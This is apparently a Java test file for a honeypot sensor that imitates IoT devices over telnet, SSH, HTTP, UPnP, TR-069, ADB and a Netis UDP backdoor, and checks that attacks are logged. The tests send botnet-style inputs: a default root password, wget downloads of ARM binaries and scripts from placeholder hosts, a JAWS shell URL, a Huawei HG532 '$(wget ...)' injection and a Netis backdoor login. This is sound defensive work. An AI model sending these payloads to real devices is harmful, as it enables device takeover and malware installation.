package teiten.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.keyverifier.AcceptAllServerKeyVerifier;
import org.apache.sshd.client.session.ClientSession;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import teiten.decoy.device.DeviceCatalog;
import teiten.session.Door;
import teiten.session.Event;
import teiten.session.read.LogFormat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;

/// Each door of a running sensor, knocked on as bots do; what was seen is read back from the finished files.
class DoorsTest {
    private static final InetSocketAddress ANY =
            new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), 0);

    @TempDir Path directory;
    private Sensor sensor;

    @BeforeEach
    void open() {
        sensor =
                Sensor.open(
                        "test",
                        DeviceCatalog.bundled(1).only("dvr-arm"),
                        LoginPolicy.LISTED,
                        Limits.DEFAULT,
                        directory.resolve("out"),
                        Duration.ofMinutes(5),
                        new CowrieLog(directory.resolve("cowrie.json")));
    }

    @AfterEach
    void noFaultAndNothingLost() {
        sensor.close();
        assertThat(sensor.counters().get(Counter.FAULTS)).isZero();
        assertThat(sensor.counters().get(Counter.EVENTS_LOST)).isZero();
    }

    /// Ends the sensor and reads what it handed over.
    private List<Event> events() throws IOException {
        sensor.close();
        List<Event> events = new ArrayList<>();
        try (Stream<Path> files = Files.list(directory.resolve("out"))) {
            for (Path file : files.filter(f -> f.toString().endsWith(".jsonl")).toList()) {
                LogFormat.EVENTS.read(file, "", ZoneOffset.UTC, events::add);
            }
        }
        try (Stream<Path> files = Files.list(directory.resolve("out"))) {
            assertThat(files.filter(f -> f.toString().endsWith(".part"))).isEmpty();
        }
        return events;
    }

    private static <E extends Event> E only(List<Event> events, Class<E> kind) {
        List<E> found = events.stream().filter(kind::isInstance).map(kind::cast).toList();
        assertThat(found).hasSize(1);
        return found.getFirst();
    }

    private static String talk(int port, byte[] said) throws IOException {
        try (Socket socket = new Socket(ANY.getAddress(), port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(said);
            socket.shutdownOutput();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Test
    void a_telnet_session_is_handed_over_whole_and_in_cowries_words() throws Exception {
        int port = sensor.telnet(ANY, false);
        try (TelnetClient client = new TelnetClient(port)) {
            client.login("root", "xc3511");
            client.ask("wget http://192.0.2.77/bins/x.arm -O /tmp/x");
            client.ask("echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/y");
            client.ask("exit");
        }

        List<Event> events = events();

        assertThat(only(events, Event.LoggedIn.class).password().value()).isEqualTo("xc3511");
        Event.Download download = only(events, Event.Download.class);
        assertThat(download.url().value()).isEqualTo("http://192.0.2.77/bins/x.arm");
        assertThat(download.path().value()).isEqualTo("/tmp/x");
        Event.FileCaptured captured = only(events, Event.FileCaptured.class);
        // printf '\x7fELF' | sha256sum
        assertThat(captured.sha256())
                .isEqualTo("3bdbb4fe8397cd2b842430b39ccff01a8663c751945ef5e9a09e267fb8b1d359");
        assertThat(directory.resolve("out/files").resolve(captured.sha256()))
                .hasBinaryContent(new byte[] {0x7F, 'E', 'L', 'F'});
        List<Event> cowrie = new ArrayList<>();
        LogFormat.COWRIE.read(directory.resolve("cowrie.json"), "", ZoneOffset.UTC, cowrie::add);
        assertThat(cowrie.stream().filter(e -> e instanceof Event.Command).map(DoorsTest::line))
                .isEqualTo(
                        events.stream()
                                .filter(e -> e instanceof Event.Command)
                                .map(DoorsTest::line)
                                .toList());
        assertThat(cowrie).anyMatch(e -> e instanceof Event.Download);
        assertThat(cowrie).anyMatch(e -> e instanceof Event.Closed);
    }

    private static String line(Event event) {
        return ((Event.Command) event).line().value();
    }

    @Test
    void ipv6_visitors_are_served_and_recorded() throws Exception {
        int port = sensor.http(new InetSocketAddress(InetAddress.ofLiteral("::1"), 0), false);
        try (Socket socket = new Socket(InetAddress.ofLiteral("::1"), port)) {
            socket.getOutputStream().write(bytes("GET / HTTP/1.0\r\n\r\n"));
            socket.getInputStream().readAllBytes();
        }

        assertThat(only(events(), Event.Connected.class).visit().source().toString())
                .isEqualTo("::1");
    }

    @Test
    void a_proxy_header_names_the_visitor_and_the_port_that_was_dialled() throws Exception {
        int port = sensor.catchAll(ANY, 0, true);
        String v2 = "0d0a0d0a000d0a515549540a21";
        String v4 = v2 + "11000c" + "cb007109" + "c6336407" + "9c41" + "1f90";
        String v6 =
                v2
                        + "210024"
                        + "20010db8000000000000000000000001"
                        + "20010db8000000000000000000000002"
                        + "9c42"
                        + "0017";
        for (String head : List.of(v4, v6)) {
            ByteArrayOutputStream said = new ByteArrayOutputStream();
            said.write(HexFormat.of().parseHex(head));
            said.write(bytes("hello"));
            talk(port, said.toByteArray());
        }
        talk(port, bytes("GET / HTTP/1.0\r\n\r\nno header at all"));

        List<Event> events = events();

        assertThat(
                        events.stream()
                                .filter(e -> e instanceof Event.Connected)
                                .map(e ->
                                        e.visit().source()
                                                + " "
                                                + e.visit().sourcePort()
                                                + " "
                                                + e.visit().destination()
                                                + " "
                                                + e.visit().destinationPort()))
                .containsExactlyInAnyOrder(
                        "203.0.113.9 40001 198.51.100.7 8080", "2001:db8::1 40002 2001:db8::2 23");
        assertThat(events.stream().filter(e -> e instanceof Event.Probe)).hasSize(2);
        assertThat(sensor.counters().get(Counter.REFUSED_PROXY)).isEqualTo(1);
    }

    @Test
    void web_doors_name_the_exploit_and_the_command_in_it() throws Exception {
        int http = sensor.http(ANY, false);
        int upnp = sensor.upnp(ANY, false);
        int cwmp = sensor.cwmp(ANY, false);
        String page = talk(http, bytes("GET / HTTP/1.0\r\n\r\n"));
        talk(http, bytes("GET /shell?cd+/tmp;wget+http://192.0.2.5/j HTTP/1.1\r\nHost: x\r\n\r\n"));
        String soap = "<NewStatusURL>$(wget http://192.0.2.6/h)</NewStatusURL>";
        talk(
                upnp,
                bytes(
                        "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: "
                                + soap.length()
                                + "\r\n\r\n"
                                + soap));
        talk(cwmp, bytes("POST /UD/act?1 HTTP/1.1\r\nContent-Length: 13\r\n\r\nSetNTPServers"));

        List<Event> events = events();

        assertThat(page).contains("Server: uc-httpd 1.0.0", "NETSurveillance WEB");
        assertThat(
                        events.stream()
                                .filter(e -> e instanceof Event.Request)
                                .map(e -> e.visit().door() + " " + ((Event.Request) e).rule()))
                .containsExactlyInAnyOrder(
                        "HTTP front-page",
                        "HTTP jaws-shell",
                        "UPNP huawei-hg532-upgrade",
                        "TR069 tr064-ntp-injection");
    }

    private static byte[] adb(String command, int arg, String data) {
        byte[] payload = bytes(data + "\0");
        int word = ByteBuffer.wrap(bytes(command)).order(ByteOrder.LITTLE_ENDIAN).getInt();
        int sum = 0;
        for (byte b : payload) {
            sum += b & 0xFF;
        }
        return ByteBuffer.allocate(24 + payload.length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(word)
                .putInt(arg)
                .putInt(4096)
                .putInt(payload.length)
                .putInt(sum)
                .putInt(~word)
                .put(payload)
                .array();
    }

    @Test
    void adb_opens_a_shell_for_one_command() throws Exception {
        int port = sensor.adb(ANY, false);
        ByteArrayOutputStream said = new ByteArrayOutputStream();
        said.write(adb("CNXN", 0x01000000, "host::"));
        said.write(adb("OPEN", 1, "shell:cd /data/local/tmp; busybox wget http://192.0.2.8/a.sh"));

        String answer = talk(port, said.toByteArray());

        assertThat(answer).contains("CNXN", "OKAY", "WRTE");
        List<Event> events = events();
        assertThat(only(events, Event.Command.class).line().value()).contains("wget");
        assertThat(only(events, Event.Download.class).url().value())
                .isEqualTo("http://192.0.2.8/a.sh");
    }

    @Test
    void ssh_lets_known_accounts_in_and_records_the_command() throws Exception {
        int port = sensor.ssh(ANY);
        String answer;
        try (SshClient client = SshClient.setUpDefaultClient()) {
            client.setServerKeyVerifier(AcceptAllServerKeyVerifier.INSTANCE);
            client.start();
            try (ClientSession session =
                    client.connect("root", "127.0.0.1", port).verify(20_000).getSession()) {
                session.addPasswordIdentity("xc3511");
                session.auth().verify(20_000);
                answer = session.executeRemoteCommand("uname -m; cat /proc/cpuinfo | grep -c ARM");
            }
        }

        List<Event> events = events();

        assertThat(answer).startsWith("armv");
        assertThat(only(events, Event.LoggedIn.class).user().value()).isEqualTo("root");
        assertThat(only(events, Event.Command.class).line().value()).startsWith("uname -m");
        assertThat(events).anyMatch(e -> e instanceof Event.ClientTrait);
    }

    @Test
    void the_netis_door_answers_as_the_router_and_never_more_than_it_was_asked() throws Exception {
        int port = sensor.netis(ANY);
        List<byte[]> asked = new ArrayList<>();
        asked.add(HexFormat.of().parseHex("0a" + "00".repeat(13) + "9e21bdad"));
        asked.add(bytes("AA\0\0AAAAnetcore\0"));
        asked.add(bytes("\0\0\0\0\0\0\0\0cd /tmp; wget -q http://192.0.2.9/n -O n; echo xx"));
        asked.add(bytes("\r"));
        asked.add(bytes("junk that is no message of this kind"));
        List<String> answers = new ArrayList<>();
        try (DatagramSocket socket = new DatagramSocket(0, ANY.getAddress())) {
            socket.setSoTimeout(2000);
            for (byte[] one : asked) {
                String answer = ask(socket, port, one);
                assertThat(answer.length()).isLessThanOrEqualTo(one.length);
                answers.add(answer);
            }
            int answered = 4;
            socket.setSoTimeout(300);
            for (int i = 0; i < 12; i++) {
                answered += ask(socket, port, asked.getFirst()).isEmpty() ? 0 : 1;
            }
            assertThat(answered).as("replies to one source in a minute").isEqualTo(8);
        }

        assertThat(answers.get(0)).contains("Login:");
        assertThat(answers.get(2)).endsWith("xx\n");
        assertThat(answers.get(3)).hasSize(1);
        assertThat(answers.get(4)).isEmpty();
        assertThat(sensor.counters().get(Counter.DATAGRAMS_RATE_LIMITED)).isEqualTo(8);
        List<Event> events = events();
        assertThat(
                        events.stream()
                                .filter(e ->
                                        e instanceof Event.Probe p
                                                && p.side() == Event.Side.VISITOR)
                                .map(e -> ((Event.Probe) e).reading())
                                .distinct())
                .containsExactly("netis-scan", "netis-login", "netis-command", "netis-knock", "");
        assertThat(only(events, Event.Download.class).visit().door()).isEqualTo(Door.NETIS);
    }

    private static String ask(DatagramSocket socket, int port, byte[] said) throws IOException {
        socket.send(new DatagramPacket(said, said.length, ANY.getAddress(), port));
        DatagramPacket answer = new DatagramPacket(new byte[4096], 4096);
        try {
            socket.receive(answer);
        } catch (SocketTimeoutException _) {
            return "";
        }
        return new String(answer.getData(), 0, answer.getLength(), StandardCharsets.ISO_8859_1);
    }
}
